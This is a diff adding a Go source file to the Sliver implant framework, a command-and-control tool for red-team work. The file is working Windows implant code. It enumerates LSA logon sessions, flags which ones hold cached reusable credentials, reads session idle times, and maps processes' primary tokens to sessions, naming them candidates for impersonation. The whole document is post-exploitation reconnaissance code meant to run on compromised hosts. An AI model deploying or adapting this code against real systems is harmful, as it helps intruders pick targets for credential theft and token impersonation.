@@ -0,0 +1,252 @@
+//go:build windows
+// +build windows
+
+package priv
+
+/*
+	Sliver Implant Framework
+	Copyright (C) 2023  Bishop Fox
+
+	This program is free software: you can redistribute it and/or modify
+	it under the terms of the GNU General Public License as published by
+	the Free Software Foundation, either version 3 of the License, or
+	(at your option) any later version.
+
+	This program is distributed in the hope that it will be useful,
+	but WITHOUT ANY WARRANTY; without even the implied warranty of
+	MERCHANTABILITY or FITNESS FOR A PARTICULAR PURPOSE.  See the
+	GNU General Public License for more details.
+
+	You should have received a copy of the GNU General Public License
+	along with this program.  If not, see <https://www.gnu.org/licenses/>.
+*/
+
+import (
+	// {{if .Config.Debug}}
+	"log"
+	// {{end}}
+
+	"time"
+	"unsafe"
+
+	"golang.org/x/sys/windows"
+
+	"github.com/bishopfox/sliver/implant/sliver/ps"
+	"github.com/bishopfox/sliver/implant/sliver/syscalls"
+)
+
+// LogonSessionInfo - A logon session known to the LSA
+type LogonSessionInfo struct {
+	LogonID        uint64
+	Username       string
+	Domain         string
+	LogonType      string
+	Session        uint32
+	SID            string
+	AuthPackage    string
+	LogonServer    string
+	DnsDomain      string
+	UPN            string
+	LogonTime      int64
+	SessionState   string
+	IdleTime       int64
+	HasCredentials bool
+	Tokens         []LogonTokenInfo
+}
+
+// LogonTokenInfo - A process whose primary token belongs to a logon session
+type LogonTokenInfo struct {
+	Pid        int
+	Executable string
+	Integrity  string
+}
+
+var logonTypeNames = map[uint32]string{
+	syscalls.LOGON_TYPE_UNDEFINED:                 "System",
+	syscalls.LOGON_TYPE_INTERACTIVE:               "Interactive",
+	syscalls.LOGON_TYPE_NETWORK:                   "Network",
+	syscalls.LOGON_TYPE_BATCH:                     "Batch",
+	syscalls.LOGON_TYPE_SERVICE:                   "Service",
+	syscalls.LOGON_TYPE_PROXY:                     "Proxy",
+	syscalls.LOGON_TYPE_UNLOCK:                    "Unlock",
+	syscalls.LOGON_TYPE_NETWORK_CLEARTEXT:         "NetworkCleartext",
+	syscalls.LOGON_TYPE_NEW_CREDENTIALS:           "NewCredentials",
+	syscalls.LOGON_TYPE_REMOTE_INTERACTIVE:        "RemoteInteractive",
+	syscalls.LOGON_TYPE_CACHED_INTERACTIVE:        "CachedInteractive",
+	syscalls.LOGON_TYPE_CACHED_REMOTE_INTERACTIVE: "CachedRemoteInteractive",
+	syscalls.LOGON_TYPE_CACHED_UNLOCK:             "CachedUnlock",
+}
+
+var wtsStateNames = map[uint32]string{
+	windows.WTSActive:       "Active",
+	windows.WTSConnected:    "Connected",
+	windows.WTSConnectQuery: "ConnectQuery",
+	windows.WTSShadow:       "Shadow",
+	windows.WTSDisconnected: "Disconnected",
+	windows.WTSIdle:         "Idle",
+	windows.WTSListen:       "Listen",
+	windows.WTSReset:        "Reset",
+	windows.WTSDown:         "Down",
+	windows.WTSInit:         "Init",
+}
+
+// logonTypeHasCredentials - Whether the LSA normally caches reusable credential
+// material for a logon of this type, network and system logons do not
+func logonTypeHasCredentials(logonType uint32) bool {
+	switch logonType {
+	case syscalls.LOGON_TYPE_UNDEFINED, syscalls.LOGON_TYPE_NETWORK, syscalls.LOGON_TYPE_PROXY:
+		return false
+	}
+	return true
+}
+
+func luidToUint64(luid windows.LUID) uint64 {
+	return uint64(luid.HighPart)<<32 | uint64(luid.LowPart)
+}
+
+func filetimeToUnix(ft int64) int64 {
+	if ft <= 0 {
+		return 0
+	}
+	filetime := windows.Filetime{LowDateTime: uint32(ft), HighDateTime: uint32(ft >> 32)}
+	return time.Unix(0, filetime.Nanoseconds()).Unix()
+}
+
+// LogonSessions - Enumerate the logon sessions on the system along with the
+// processes running under each of them
+func LogonSessions() ([]LogonSessionInfo, error) {
+	var count uint32
+	var luids *windows.LUID
+	err := syscalls.LsaEnumerateLogonSessions(&count, &luids)
+	if err != nil {
+		// {{if .Config.Debug}}
+		log.Printf("LsaEnumerateLogonSessions failed: %v", err)
+		// {{end}}
+		return nil, err
+	}
+	defer syscalls.LsaFreeReturnBuffer(uintptr(unsafe.Pointer(luids)))
+
+	tokens := logonSessionTokens()
+	wtsSessions := map[uint32]*syscalls.WTSINFOW{}
+
+	sessions := []LogonSessionInfo{}
+	for _, luid := range unsafe.Slice(luids, count) {
+		var data *syscalls.SECURITY_LOGON_SESSION_DATA
+		err = syscalls.LsaGetLogonSessionData(&luid, &data)
+		if err != nil || data == nil {
+			// {{if .Config.Debug}}
+			log.Printf("LsaGetLogonSessionData failed for %d: %v", luidToUint64(luid), err)
+			// {{end}}
+			continue
+		}
+		session := LogonSessionInfo{
+			LogonID:        luidToUint64(data.LogonId),
+			Username:       data.UserName.String(),
+			Domain:         data.LogonDomain.String(),
+			LogonType:      logonTypeNames[data.LogonType],
+			Session:        data.Session,
+			AuthPackage:    data.AuthenticationPackage.String(),
+			LogonServer:    data.LogonServer.String(),
+			DnsDomain:      data.DnsDomainName.String(),
+			UPN:            data.Upn.String(),
+			LogonTime:      filetimeToUnix(data.LogonTime),
+			IdleTime:       -1,
+			HasCredentials: logonTypeHasCredentials(data.LogonType),
+			Tokens:         tokens[luidToUint64(data.LogonId)],
+		}
+		if session.LogonType == "" {
+			session.LogonType = "Unknown"
+		}
+		if data.Sid != nil {
+			session.SID = data.Sid.String()
+		}
+		syscalls.LsaFreeReturnBuffer(uintptr(unsafe.Pointer(data)))
+
+		if _, ok := wtsSessions[session.Session]; !ok {
+			wtsSessions[session.Session] = wtsSessionInfo(session.Session)
+		}
+		if info := wtsSessions[session.Session]; info != nil {
+			session.SessionState = wtsStateNames[info.State]
+			// Service and network logons share session 0 with everything else, so
+			// only interactive style logons get the terminal session's idle time
+			if session.LogonType != "Network" && session.LogonType != "Service" && 0 < info.LastInputTime && info.LastInputTime <= info.CurrentTime {
+				// FILETIME intervals are 100ns
+				session.IdleTime = (info.CurrentTime - info.LastInputTime) / 10000000
+			}
+		}
+		sessions = append(sessions, session)
+	}
+	return sessions, nil
+}
+
+// wtsSessionInfo - Query terminal services for a session's state and input times,
+// returns nil if the session can't be queried (e.g. session 0 on older versions)
+func wtsSessionInfo(sessionID uint32) *syscalls.WTSINFOW {
+	var buffer *uint16
+	var size uint32
+	err := syscalls.WTSQuerySessionInformationW(syscalls.WTS_CURRENT_SERVER_HANDLE, sessionID, syscalls.WTSSessionInfo, &buffer, &size)
+	if err != nil {
+		// {{if .Config.Debug}}
+		log.Printf("WTSQuerySessionInformationW failed for session %d: %v", sessionID, err)
+		// {{end}}
+		return nil
+	}
+	defer windows.WTSFreeMemory(uintptr(unsafe.Pointer(buffer)))
+	if size < uint32(unsafe.Sizeof(syscalls.WTSINFOW{})) {
+		return nil
+	}
+	info := *(*syscalls.WTSINFOW)(unsafe.Pointer(buffer))
+	return &info
+}
+
+// logonSessionTokens - Map logon session IDs to the processes whose primary token
+// we can open, these are the candidates for impersonation
+func logonSessionTokens() map[uint64][]LogonTokenInfo {
+	tokens := map[uint64][]LogonTokenInfo{}
+	procs, err := ps.Processes()
+	if err != nil {
+		// {{if .Config.Debug}}
+		log.Printf("Could not list processes: %v", err)
+		// {{end}}
+		return tokens
+	}
+	for _, proc := range procs {
+		logonID, integrity, err := processLogonID(uint32(proc.Pid()))
+		if err != nil {
+			continue
+		}
+		tokens[logonID] = append(tokens[logonID], LogonTokenInfo{
+			Pid:        proc.Pid(),
+			Executable: proc.Executable(),
+			Integrity:  integrity,
+		})
+	}
+	return tokens
+}
+
+func processLogonID(pid uint32) (uint64, string, error) {
+	handle, err := windows.OpenProcess(windows.PROCESS_QUERY_LIMITED_INFORMATION, false, pid)
+	if err != nil {
+		return 0, "", err
+	}
+	defer windows.CloseHandle(handle)
+
+	var token windows.Token
+	err = windows.OpenProcessToken(handle, windows.TOKEN_QUERY, &token)
+	if err != nil {
+		return 0, "", err
+	}
+	defer token.Close()
+
+	var stats syscalls.TOKEN_STATISTICS
+	var size uint32
+	err = windows.GetTokenInformation(token, windows.TokenStatistics, (*byte)(unsafe.Pointer(&stats)), uint32(unsafe.Sizeof(stats)), &size)
+	if err != nil {
+		return 0, "", err
+	}
+	integrity, err := getProcessIntegrityLevel(token)
+	if err != nil {
+		integrity = "Unknown"
+	}
+	return luidToUint64(stats.AuthenticationId), integrity, nil
+}